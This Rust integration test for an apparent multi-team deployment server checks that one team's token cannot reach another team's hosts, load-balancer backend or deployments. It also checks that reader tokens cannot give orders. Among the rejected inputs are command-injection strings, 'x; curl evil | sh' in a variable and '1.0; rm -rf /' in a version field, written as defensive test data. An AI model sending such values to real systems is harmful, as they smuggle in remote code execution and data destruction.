//! Two teams on one server, over a real loopback socket and a real SQLite file: team B's token
//! tries every way to reach team A's hosts or backend, and each is refused with a 4xx naming
//! the field while the ports record no call at all. Identities: another team's deployment is
//! 404, a reader gives no orders, a token of two teams sees both, a busy unit of another team
//! is 409 without naming the running deployment.

mod support;

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use axum::http::StatusCode;
use serde_json::{json, Value};
use support::*;
use vesemir_core::request::DeploymentRequest;
use vesemir_core::Ports;
use vesemir_http::{PortsError, PortsFactory, Server, ServerConfig};

const PLATFORM: &str = "tok-platform-0123456789";
const READER: &str = "tok-reader-0123456789";

/// Counts every request for ports: a refused request never gets that far.
#[derive(Debug)]
struct Counting(Ports, AtomicUsize);

impl PortsFactory for Counting {
    fn ports(&self, _request: &DeploymentRequest) -> Result<Ports, PortsError> {
        self.1.fetch_add(1, Ordering::SeqCst);
        Ok(self.0.clone())
    }
}

fn two_teams(database: &std::path::Path) -> ServerConfig {
    let text = format!(
        r#"
database = "{db}"

[[tokens]]
name = "payments-ci"
sha256 = "{payments}"
team = "payments"

[[tokens]]
name = "search-ci"
sha256 = "{search}"
teams = ["search"]
roles = ["deploy", "read"]

[[tokens]]
name = "platform-ci"
sha256 = "{platform}"
teams = ["payments", "search"]

[[tokens]]
name = "payments-dashboard"
sha256 = "{reader}"
teams = ["payments"]
roles = ["read"]

[[tokens]]
name = "root"
sha256 = "{admin}"
admin = true

[[units]]
team = "payments"
application = "shop"
environment = "production"
playbooks = ["web", "db-migrate"]
targets = {{ tags = ["web"], chef_environment = "fleet" }}
load_balancer = {{ backend = "be_web", instances = [{{ address = "127.0.0.1", port = 9001 }}] }}
strategy = {{ max_concurrency = 2 }}
variables.channel = {{ pattern = "^[a-z]+$", default = "stable" }}

[[units]]
team = "search"
application = "finder"
environment = "production"
playbooks = ["web"]
targets = {{ hosts = [{{ name = "search-01", address = "127.0.2.1" }}] }}
load_balancer = {{ backend = "be_search", instances = [{{ address = "127.0.0.1", port = 9002 }}] }}
strategy = {{ max_concurrency = 1 }}
variables.channel = {{ pattern = "^[a-z]+$", default = "stable" }}

[[units]]
team = "search"
application = "shop"
environment = "production"
playbooks = ["web"]
targets = {{ hosts = [{{ name = "search-01", address = "127.0.2.1" }}] }}
load_balancer = {{ backend = "be_search", instances = [{{ address = "127.0.0.1", port = 9002 }}] }}
variables.channel = {{ pattern = "^[a-z]+$", default = "stable" }}
{PLAYBOOK}
[playbooks.db-migrate]
steps = [{{ name = "migrate", run = "migrate {{version}}" }}]
"#,
        db = database.display(),
        payments = vesemir_http::auth::sha256_hex(PAYMENTS.as_bytes()),
        search = vesemir_http::auth::sha256_hex(SEARCH.as_bytes()),
        platform = vesemir_http::auth::sha256_hex(PLATFORM.as_bytes()),
        reader = vesemir_http::auth::sha256_hex(READER.as_bytes()),
        admin = vesemir_http::auth::sha256_hex(ADMIN.as_bytes()),
    );
    ServerConfig::from_toml(&text).unwrap_or_else(|e| panic!("valid config: {e}"))
}

struct TwoTeams {
    fleet: Fleet,
    factory: Arc<Counting>,
    server: Server,
    served: Loopback,
    _dir: tempfile::TempDir,
}

async fn start(fleet: Fleet) -> TwoTeams {
    let dir = tempfile::tempdir().expect("temp dir");
    let factory = Arc::new(Counting(fleet.ports(), AtomicUsize::new(0)));
    let server = Server::open(&two_teams(&dir.path().join("v.db")), factory.clone()).await.expect("opens");
    let served = Loopback::serve(&server).await;
    TwoTeams { fleet, factory, server, served, _dir: dir }
}

impl TwoTeams {
    async fn post(&self, token: &str, body: &Value) -> Reply {
        self.served.call("POST", "/v1/deployments", Some(token), Some(&body.to_string())).await
    }

    async fn get(&self, token: &str, path: &str) -> Reply {
        self.served.call("GET", path, Some(token), None).await
    }

    async fn wait_finished(&self, id: i64) -> Value {
        let deadline = tokio::time::Instant::now() + Duration::from_secs(20);
        loop {
            let reply = self.get(ADMIN, &format!("/v1/deployments/{id}")).await;
            if !matches!(reply.json["status"].as_str(), Some("queued" | "running")) {
                return reply.json;
            }
            assert!(tokio::time::Instant::now() < deadline, "never finished: {}", reply.text);
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    }
}

fn b(extra: Value) -> Value {
    let mut body =
        json!({ "team": "search", "application": "finder", "environment": "production", "version": "1.0.0" });
    for (key, value) in extra.as_object().expect("object") {
        body[key] = value.clone();
    }
    body
}

fn fields(reply: &Reply) -> Vec<String> {
    reply.json["problems"]
        .as_array()
        .unwrap_or_else(|| panic!("no problems in {} {}", reply.status, reply.text))
        .iter()
        .map(|p| p["field"].as_str().unwrap_or("").to_owned())
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn team_b_cannot_reach_team_a_hosts_or_backend_in_any_way_and_nothing_is_touched() {
    let t = start(Fleet::new(2)).await;
    let a_host = json!([{ "name": "web-01", "address": "127.0.1.1" }]);
    let cases: Vec<(&str, Value, StatusCode, &str)> = vec![
        (
            "a hosts list",
            b(json!({ "targets": { "hosts": a_host } })),
            StatusCode::UNPROCESSABLE_ENTITY,
            "targets.hosts",
        ),
        ("hosts at the top", b(json!({ "hosts": a_host })), StatusCode::UNPROCESSABLE_ENTITY, "hosts"),
        (
            "tags",
            b(json!({ "targets": { "tags": ["web"] } })),
            StatusCode::UNPROCESSABLE_ENTITY,
            "targets.tags",
        ),
        (
            "a Chef environment",
            b(json!({ "targets": { "chef_environment": "fleet" } })),
            StatusCode::UNPROCESSABLE_ENTITY,
            "targets.chef_environment",
        ),
        (
            "a raw query",
            b(json!({ "targets": { "query": "name:web*" } })),
            StatusCode::UNPROCESSABLE_ENTITY,
            "targets.query",
        ),
        (
            "instances",
            b(
                json!({ "load_balancer": { "backend": "be_web", "instances": [{ "address": "127.0.0.1", "port": 9001 }] } }),
            ),
            StatusCode::UNPROCESSABLE_ENTITY,
            "load_balancer.instances",
        ),
        (
            "a unix socket path",
            b(json!({ "load_balancer": { "instances": [{ "socket": "/run/haproxy/admin.sock" }] } })),
            StatusCode::UNPROCESSABLE_ENTITY,
            "load_balancer.instances",
        ),
        (
            "a socket at the top",
            b(json!({ "socket": "/run/haproxy/admin.sock" })),
            StatusCode::UNPROCESSABLE_ENTITY,
            "socket",
        ),
        (
            "discover",
            b(json!({ "load_balancer": { "discover": { "tags": ["haproxy"], "port": 9001 } } })),
            StatusCode::UNPROCESSABLE_ENTITY,
            "load_balancer.discover",
        ),
        (
            "team A's backend",
            b(json!({ "load_balancer": { "backend": "be_web" } })),
            StatusCode::UNPROCESSABLE_ENTITY,
            "load_balancer.backend",
        ),
        (
            "an inline changeset",
            b(json!({ "changeset": { "steps": [{ "name": "x", "run": "id" }] } })),
            StatusCode::UNPROCESSABLE_ENTITY,
            "changeset.steps",
        ),
        (
            "team A's unit",
            json!({ "team": "payments", "application": "shop", "environment": "production", "version": "1" }),
            StatusCode::FORBIDDEN,
            "team",
        ),
        (
            "an application not in the catalog",
            b(json!({ "application": "ledger" })),
            StatusCode::FORBIDDEN,
            "application",
        ),
        (
            "an environment not in the catalog",
            b(json!({ "environment": "staging" })),
            StatusCode::FORBIDDEN,
            "application",
        ),
        (
            "a playbook not allowed",
            b(json!({ "playbook": "db-migrate" })),
            StatusCode::UNPROCESSABLE_ENTITY,
            "playbook",
        ),
        (
            "a variable outside its pattern",
            b(json!({ "variables": { "channel": "x; curl evil | sh" } })),
            StatusCode::UNPROCESSABLE_ENTITY,
            "variables.channel",
        ),
        (
            "a variable not declared",
            b(json!({ "variables": { "host_override": "web-01" } })),
            StatusCode::UNPROCESSABLE_ENTITY,
            "variables.host_override",
        ),
        (
            "a version outside its pattern",
            b(json!({ "version": "1.0; rm -rf /" })),
            StatusCode::UNPROCESSABLE_ENTITY,
            "version",
        ),
        (
            "concurrency over the cap",
            b(json!({ "strategy": { "concurrency": 5 } })),
            StatusCode::UNPROCESSABLE_ENTITY,
            "strategy.concurrency",
        ),
        (
            "a percentage past a count cap",
            b(json!({ "strategy": { "concurrency": "100%" } })),
            StatusCode::UNPROCESSABLE_ENTITY,
            "strategy.concurrency",
        ),
        (
            "a canary not allowed",
            b(json!({ "strategy": { "canary": { "hosts": 1 } } })),
            StatusCode::UNPROCESSABLE_ENTITY,
            "strategy.canary",
        ),
        (
            "a ramp not allowed",
            b(json!({ "strategy": { "ramp": [{ "weight": "10%" }] } })),
            StatusCode::UNPROCESSABLE_ENTITY,
            "strategy.ramp",
        ),
        (
            "someone else as requester",
            b(json!({ "requested_by": "payments-ci" })),
            StatusCode::UNPROCESSABLE_ENTITY,
            "requested_by",
        ),
    ];
    for (what, body, status, field) in cases {
        let reply = t.post(SEARCH, &body).await;
        assert_eq!(reply.status, status, "{what}: {}", reply.text);
        assert!(fields(&reply).iter().any(|f| f == field), "{what}: {field} not named in {}", reply.text);
        if status == StatusCode::UNPROCESSABLE_ENTITY && field.starts_with("targets") {
            assert!(reply.text.contains("set by the operator"), "{what}: {}", reply.text);
        }
        if !body.to_string().contains("be_web") {
            assert!(
                !reply.text.contains("be_web"),
                "{what}: the answer names team A's backend: {}",
                reply.text
            );
        }
    }
    assert_eq!(t.factory.1.load(Ordering::SeqCst), 0, "no ports were made");
    assert_eq!(t.fleet.inventory.searches(), 0, "no search");
    assert_eq!(t.fleet.executor.connects(), 0, "no host reached");
    assert!(t.fleet.lb.rotation_log().changes.is_empty(), "no load balancer change");
    let listed = t.get(ADMIN, "/v1/deployments").await;
    assert_eq!(listed.json["deployments"].as_array().expect("list").len(), 0, "nothing stored");

    // Team A's own unit runs over the catalog's hosts and backend.
    let accepted = t.post(PAYMENTS, &json!({ "team": "payments", "application": "shop", "environment": "production", "version": "2.0.0" })).await;
    assert_eq!(accepted.status, StatusCode::ACCEPTED, "{}", accepted.text);
    let done = t.wait_finished(id_of(&accepted)).await;
    assert_eq!(done["status"], "succeeded", "{done}");
    assert_eq!(done["requested_by"], "payments-ci");
    t.served.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn identities_another_teams_deployment_is_404_readers_give_no_orders_and_busy_names_no_one() {
    let fleet = Fleet::new(2);
    fleet.executor.set_latency(Duration::from_millis(200));
    let t = start(fleet).await;
    let shop_a =
        json!({ "team": "payments", "application": "shop", "environment": "production", "version": "2.0.0" });
    let accepted = t.post(PAYMENTS, &shop_a).await;
    assert_eq!(accepted.status, StatusCode::ACCEPTED, "{}", accepted.text);
    let id = id_of(&accepted);

    // Team B: the same application and environment is busy; it is not told whose, nor the id.
    let busy = t
        .post(
            SEARCH,
            &json!({ "team": "search", "application": "shop", "environment": "production", "version": "1" }),
        )
        .await;
    assert_eq!(busy.status, StatusCode::CONFLICT, "{}", busy.text);
    assert!(busy.text.contains("is busy"), "{}", busy.text);
    assert!(
        busy.json["running"].is_null()
            && !busy.text.contains("payments")
            && !busy.text.contains(&format!("deployment {id}")),
        "{}",
        busy.text
    );
    // Team A's own second try is told which one runs.
    let again = t.post(PAYMENTS, &shop_a).await;
    assert_eq!(again.status, StatusCode::CONFLICT);
    assert_eq!(again.json["running"]["id"], id, "{}", again.text);

    for path in [format!("/v1/deployments/{id}"), format!("/v1/deployments/{id}/events")] {
        let peek = t.get(SEARCH, &path).await;
        assert_eq!(peek.status, StatusCode::NOT_FOUND, "{path}: {}", peek.text);
        assert!(!peek.text.contains("payments"), "{}", peek.text);
    }
    for order in ["cancel", "pause", "confirm", "recover"] {
        let reply = t.served.call("POST", &format!("/v1/deployments/{id}/{order}"), Some(SEARCH), None).await;
        assert_eq!(reply.status, StatusCode::NOT_FOUND, "{order}: {}", reply.text);
        let reader =
            t.served.call("POST", &format!("/v1/deployments/{id}/{order}"), Some(READER), None).await;
        assert_eq!(reader.status, StatusCode::FORBIDDEN, "a reader's {order}: {}", reader.text);
    }
    let reader = t.get(READER, &format!("/v1/deployments/{id}")).await;
    assert_eq!(reader.status, StatusCode::OK, "a reader reads: {}", reader.text);
    let reader_deploys = t.post(READER, &shop_a).await;
    assert_eq!(reader_deploys.status, StatusCode::FORBIDDEN, "{}", reader_deploys.text);
    t.wait_finished(id).await;

    // A token of both teams deploys for each and lists both; requested_by is its name.
    let platform = t.post(PLATFORM, &json!({ "team": "payments", "application": "shop", "environment": "production", "version": "2.0.1" })).await;
    assert_eq!(platform.status, StatusCode::ACCEPTED, "{}", platform.text);
    let done = t.wait_finished(id_of(&platform)).await;
    assert_eq!(done["requested_by"], "platform-ci");
    let b_run = t.post(PLATFORM, &json!({ "team": "search", "application": "finder", "environment": "production", "version": "1" })).await;
    assert_eq!(b_run.status, StatusCode::ACCEPTED, "{}", b_run.text);
    t.wait_finished(id_of(&b_run)).await;
    let teams = |reply: &Reply| -> Vec<String> {
        reply.json["deployments"]
            .as_array()
            .expect("list")
            .iter()
            .map(|d| d["team"].as_str().unwrap_or("").to_owned())
            .collect()
    };
    assert_eq!(teams(&t.get(PLATFORM, "/v1/deployments").await), ["search", "payments", "payments"]);
    assert_eq!(teams(&t.get(SEARCH, "/v1/deployments").await), ["search"]);
    assert_eq!(teams(&t.get(READER, "/v1/deployments").await), ["payments", "payments"]);
    let snoop = t.get(SEARCH, "/v1/deployments?team=payments").await;
    assert_eq!(snoop.status, StatusCode::FORBIDDEN, "{}", snoop.text);
    drop(t.server);
    t.served.stop().await;
}
